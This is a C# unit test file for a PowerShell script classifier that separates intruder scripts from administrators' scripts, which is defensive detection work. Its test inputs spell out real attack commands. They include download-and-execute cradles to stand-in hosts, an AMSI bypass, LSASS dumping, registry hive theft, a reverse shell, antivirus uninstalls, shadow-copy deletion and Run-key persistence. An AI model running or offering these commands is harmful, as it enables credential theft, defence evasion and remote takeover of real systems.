using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

public sealed class JudgementTests
{
    [Theory]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", "download-and-execute")]
    [InlineData("$c = (New-Object Net.WebClient).DownloadString('http://evil.example/a'); $d = $c.Trim(); & ([scriptblock]::Create($d))", "download-and-execute")]
    [InlineData("iwr http://evil.example/a -UseBasicParsing | iex", "download-and-execute")]
    [InlineData("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiIni'+'tFailed','NonPublic,Static').SetValue($null,$true)", "amsi-bypass")]
    [InlineData("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 600 C:\\x.dmp full", "lsass-dump")]
    [InlineData("reg save hklm\\sam C:\\Windows\\Temp\\s; reg save hklm\\system C:\\Windows\\Temp\\y", "hives-saved")]
    [InlineData("schtasks /create /tn blackball /tr \"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://t.example/a.jsp')\" /sc minute /mo 120", "task-with-payload")]
    [InlineData("$c = New-Object Net.Sockets.TCPClient('203.0.113.9',443); $s=$c.GetStream(); while(($i=$s.Read($b,0,$b.Length)) -ne 0){ $r = (iex $d 2>&1 | Out-String); $s.Write($r,0,$r.Length) }", "reverse-shell")]
    [InlineData("cmd /c \"wmic product where \"name like '%Eset%'\" call uninstall /nointeractive\"; cmd /c \"wmic product where \"name like '%Kaspersky%'\" call uninstall\"", "security-products-removed")]
    [InlineData("Start-Process x.exe -ArgumentList '-o stratum+tcp://pool.example:3333 -u 4A'", "miner")]
    [InlineData("$b=(New-Object Net.WebClient).DownloadData('http://192.0.2.8/x.png'); $o=@(); foreach($x in $b){$o+=$x -bxor 0x2a}; [Reflection.Assembly]::Load([byte[]]$o)", "assembly-from-bytes")]
    [InlineData("$l=New-Object Net.HttpListener; $l.Start(); $c=$l.GetContext(); $r=New-Object IO.StreamReader $c.Request.InputStream; $o=iex $r.ReadToEnd()", "download-and-execute")]
    [InlineData("New-MailboxExportRequest -Mailbox a -FilePath \\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x.aspx", "mailbox-exported-as-page")]
    [InlineData("@echo off\nset x=c^e^r^t^u^t^i^l\n%x% -urlcache -split -f http://192.0.2.8/a.txt %temp%\\a.txt & %x% -decode %temp%\\a.txt %temp%\\a.exe & start %temp%\\a.exe", "download-to-file-and-run")]
    public void Intruders_scripts_are_called_malicious(string script, string reason)
    {
        var judgement = Deobfuscator.Judge(script);
        Assert.True(judgement.Malicious);
        Assert.Contains(judgement.Reasons, one => one.Key == reason);
        Assert.NotEmpty(judgement.Techniques);
    }

    [Theory]
    [InlineData("Invoke-WebRequest https://download.microsoft.com/x.msi -OutFile C:\\x.msi; Start-Process msiexec -ArgumentList '/i C:\\x.msi /qn' -Wait")]
    [InlineData("iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))")]
    [InlineData("Add-Type -TypeDefinition 'public class A {}'; [Convert]::FromBase64String('AAAA')")]
    [InlineData("$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -File C:\\Scripts\\backup.ps1'; Register-ScheduledTask -TaskName Backup -Action $a")]
    [InlineData("# sekurlsa::logonpasswords is what we look for\nGet-WinEvent -LogName Security | Where-Object Id -eq 4624")]
    [InlineData("Get-Mailbox -ResultSize Unlimited | Get-MailboxStatistics | Export-Csv C:\\report.csv")]
    [InlineData("Set-MpPreference -DisableRealtimeMonitoring $false")]
    [InlineData("New-MailboxExportRequest -Mailbox leaver -FilePath \\\\fs01\\pst$\\leaver.pst")]
    [InlineData("$l=New-Object Net.HttpListener; $l.Start(); $c=$l.GetContext(); $b=[Text.Encoding]::UTF8.GetBytes('up'); $c.Response.OutputStream.Write($b,0,2)")]
    public void Administrators_scripts_are_not(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);

    [Fact]
    public void Indicators_are_read_from_the_decoded_text()
    {
        var judgement = Deobfuscator.Judge("$u='ht'+'tp://t.example.org/a.jsp'; $w=New-Object Net.WebClient; $w.Headers.Add('User-Agent','Lemon-Test'); $w.DownloadFile($u,'C:\\Windows\\Temp\\m6.bin'); "
            + "Add-MpPreference -ExclusionPath 'C:\\'; New-Object Threading.Mutex($true,'Global\\eLocalIf'); New-ItemProperty HKLM:\\Software\\X -Name a");
        Assert.Contains(new("url", "http://t.example.org/a.jsp"), judgement.Indicators);
        Assert.Contains(new("domain", "t.example.org"), judgement.Indicators);
        Assert.Contains(new("user-agent", "Lemon-Test"), judgement.Indicators);
        Assert.Contains(new("path", "C:\\Windows\\Temp\\m6.bin"), judgement.Indicators);
        Assert.Contains(new("mutex", "Global\\eLocalIf"), judgement.Indicators);
        Assert.Contains(judgement.Indicators, indicator => indicator.Kind == "registry");
        Assert.Contains(judgement.Indicators, indicator => indicator.Kind == "exclusion");
    }

    [Theory]
    [InlineData("$f=[IO.Path]::GetTempFileName()+'.exe';[IO.File]::WriteAllBytes($f,[Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'));Start-Process $f")]
    [InlineData("iwr http://192.0.2.1/p.exe -OutFile C:\\Users\\Public\\p.exe; C:\\Users\\Public\\p.exe")]
    [InlineData("(New-Object Net.WebClient).DownloadFile('http://files.example/x.exe',\"$env:TEMP\\x.exe\");Start-Process \"$env:TEMP\\x.exe\"")]
    [InlineData("vssadmin delete shadows /all /quiet; bcdedit /set {default} recoveryenabled no")]
    [InlineData("New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value 'powershell -w hidden -f C:\\Users\\Public\\u.ps1'")]
    public void Traits_that_are_strong_together_decide(string script) => Assert.True(Deobfuscator.Judge(script).Malicious);

    [Theory]
    [InlineData("Invoke-WebRequest https://dist.example/setup.exe -OutFile $env:TEMP\\setup.exe; Start-Process $env:TEMP\\setup.exe -Wait")]
    [InlineData("New-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name Agent -Value 'C:\\Program Files\\Agent\\agent.exe'")]
    [InlineData("vssadmin list shadows; bcdedit /enum")]
    public void Each_of_them_alone_does_not(string script) => Assert.False(Deobfuscator.Judge(script).Malicious);
}
